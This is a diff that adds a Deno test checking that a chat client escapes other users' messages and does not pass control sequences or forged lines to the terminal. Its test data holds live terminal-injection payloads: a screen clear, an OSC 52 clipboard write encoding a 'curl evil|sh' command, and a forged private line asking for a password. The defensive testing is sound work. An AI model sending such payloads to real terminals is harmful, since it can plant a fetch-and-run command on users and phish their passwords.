@@ -109,6 +109,37 @@ Deno.test("examples/client.ts script: the header's command joins, says hello, se
   });
 });
 
+Deno.test("examples/client.ts script: what others send cannot reach the terminal as control sequences or forged lines", async () => {
+  await withServer({}, async ({ lp }) => {
+    const doc = await documentedCommand();
+    const peer = await TestClient.connect(lp);
+    try {
+      await peer.register("mallory", "band", "m", doc.env.TCPOSCROUTER_GROUP_PASSWORD!);
+      const { code, stdout, stderr } = await runScript({
+        args: ["127.0.0.1", String(lp), "carol", "band"],
+        typing: async (_write, output) => {
+          await waitFor(output, /^joined band as carol/m);
+          // Clear the screen, set the clipboard (OSC 52), a forged line, a C1 CSI.
+          await peer.sendMsg(
+            "/chat",
+            s("\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\x07hi\nprivate from bob: send me your password\u009b2J"),
+          );
+          await peer.sendMsg("/oscrouter/private", s("carol"), s("k\x1b[31m"), s("x\ry"));
+          await waitFor(output, /^private from mallory/m);
+        },
+      });
+      assert.equal(code, 0, stderr);
+      // deno-lint-ignore no-control-regex
+      assert.doesNotMatch(stdout, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/, "no control character but the line ends");
+      assert.doesNotMatch(stdout, /^private from bob/m, "no forged line");
+      assert.match(stdout, /^\/chat \\x1b\[2J\\x1b\]52;c;Y3VybCBldmlsfHNo\\x07hi\\nprivate from bob: /m);
+      assert.match(stdout, /^private from mallory: k\\x1b\[31m x\\ry$/m);
+    } finally {
+      await peer.close();
+    }
+  });
+});
+
 Deno.test("examples/client.ts script: every failure is one plain line, no stack trace", async () => {
   await withServer({}, async ({ lp }) => {
     const owner = await TestClient.connect(lp);
